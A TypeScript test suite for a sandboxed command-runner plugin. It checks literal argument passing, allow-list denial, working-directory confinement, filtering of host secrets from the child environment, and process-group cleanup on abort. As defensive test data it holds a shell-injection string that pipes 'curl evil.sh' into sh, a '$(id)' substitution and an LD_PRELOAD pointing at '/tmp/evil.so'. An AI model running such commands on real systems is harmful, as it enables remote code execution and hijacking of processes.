import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { test } from 'node:test';
import { Value } from '@sinclair/typebox/value';
import command from '@rustchain/plugin-command';
import type { DefinedPlugin } from '../../core/src/plugin/sdk.ts';
import { ctxFor, policyFor, rejectsWith, tempDir } from '../core/capabilities/helpers.ts';

const plugin = command as DefinedPlugin;
const run = (params: Record<string, unknown>, ctx: ReturnType<typeof ctxFor>) => {
  assert.ok(Value.Check(plugin.params, params), 'params match the schema');
  return plugin.run(params as never, ctx) as Promise<{ stdout: string; stderr: string; exit_code: number }>;
};
const allow = (root: string, ...names: string[]) => policyFor(root, { commands: { allow: names, shell: false } });

test('command: runs argv with templated-looking values as literal arguments', async (t) => {
  const root = await tempDir(t);
  const out = await run({ command: 'echo', args: ['x"; curl evil.sh | sh; #', '$(id)', 5, true] }, ctxFor(root, allow(root, 'echo')));
  assert.deepEqual(out, { stdout: 'x"; curl evil.sh | sh; # $(id) 5 true\n', stderr: '', exit_code: 0 });
  const list = await run({ command: ['echo', '-n', 'a'], args: ['b'] }, ctxFor(root, allow(root, 'echo')));
  assert.equal(list.stdout, 'a b');
});

test('command: a missing command is caught by the params schema', () => {
  assert.equal(Value.Check(plugin.params, { args: ['x'] }), false);
  assert.ok([...Value.Errors(plugin.params, { args: ['x'] })].some((e) => e.path === '/command'));
  assert.equal(Value.Check(plugin.params, { command: [] }), false);
});

test('command: a command not allowed is denied and never spawned', async (t) => {
  const root = await tempDir(t);
  const sentinel = join(root, 'sentinel');
  await rejectsWith(run({ command: 'touch', args: [sentinel] }, ctxFor(root, allow(root, 'echo'))), 'E_POLICY_COMMAND_DENIED');
  await rejectsWith(run({ command: 'sh', args: ['-c', `touch ${sentinel}`] }, ctxFor(root, allow(root, 'echo'))), 'E_POLICY_COMMAND_DENIED');
  await sleep(50);
  assert.equal(existsSync(sentinel), false);
  assert.deepEqual(plugin.claims?.({ command: 'touch', args: [sentinel] } as never), [{ kind: 'exec', argv: ['touch', sentinel], pointer: '/command' }]);
});

test('command: a non-zero exit fails with E_COMMAND_EXIT_NONZERO carrying the outputs', async (t) => {
  const root = await tempDir(t);
  const error = await rejectsWith(run({ command: 'sh', args: ['-c', 'echo out; echo err >&2; exit 7'] }, ctxFor(root, allow(root, 'sh'))), 'E_COMMAND_EXIT_NONZERO');
  assert.deepEqual(error.details['outputs'], { stdout: 'out\n', stderr: 'err\n', exit_code: 7 });
  assert.equal(error.details['exit_code'], 7);
});

test('command: working_dir is honoured and guarded', async (t) => {
  const root = await tempDir(t);
  await ctxFor(root, policyFor(root)).fs.writeText('sub/f', '', { createParents: true });
  assert.equal((await run({ command: 'pwd', working_dir: 'sub' }, ctxFor(root, allow(root, 'pwd')))).stdout.trim(), join(root, 'sub'));
  await rejectsWith(run({ command: 'pwd', working_dir: '..' }, ctxFor(root, allow(root, 'pwd'))), 'E_POLICY_PATH_DENIED');
});

test('command: the child env holds only allowed variables (no host secrets)', async (t) => {
  const root = await tempDir(t);
  const saved = process.env.AWS_SECRET_ACCESS_KEY;
  process.env.AWS_SECRET_ACCESS_KEY = 'fake-aws-secret';
  t.after(() => {
    if (saved === undefined) delete process.env.AWS_SECRET_ACCESS_KEY;
    else process.env.AWS_SECRET_ACCESS_KEY = saved;
  });
  const out = await run({ command: 'env', env: { STEP_VAR: 'v' } }, ctxFor(root, allow(root, 'env'), { env: process.env }));
  assert.doesNotMatch(out.stdout, /AWS_SECRET_ACCESS_KEY|fake-aws-secret/);
  assert.match(out.stdout, /^STEP_VAR=v$/m);
  const names = out.stdout.trim().split('\n').map((l) => l.split('=')[0]);
  assert.ok(names.every((n) => ['PATH', 'HOME', 'LANG', 'STEP_VAR'].includes(n ?? '')), names.join(','));
  await rejectsWith(run({ command: 'env', env: { LD_PRELOAD: '/tmp/evil.so' } }, ctxFor(root, allow(root, 'env'))), 'E_POLICY_ENV_DENIED');
});

test('command: abort kills the whole process group, grandchildren included', async (t) => {
  const root = await tempDir(t);
  const controller = new AbortController();
  const ctx = ctxFor(root, allow(root, 'sh'), { signal: controller.signal });
  const running = run({ command: 'sh', args: ['-c', 'echo $$ > pgid; sleep 30 & sleep 30 & wait'] }, ctx);
  running.catch(() => {});
  const pidFile = join(root, 'pgid');
  for (let i = 0; i < 200 && !existsSync(pidFile); i++) await sleep(25);
  const pgid = Number(readFileSync(pidFile, 'utf8').trim());
  const members = (): string[] =>
    execFileSync('ps', ['-o', 'pid=,stat=', '-g', String(pgid)], { encoding: 'utf8' })
      .split('\n')
      .filter((l) => l.trim() !== '' && !/\sZ/.test(l));
  for (let i = 0; i < 200 && members().length < 3; i++) await sleep(25);
  assert.ok(members().length >= 3, 'sh and two sleeps are running');
  controller.abort();
  await rejectsWith(running, 'E_STEP_CANCELLED');
  for (let i = 0; i < 200 && members().length > 0; i++) await sleep(25);
  assert.deepEqual(members(), []);
});
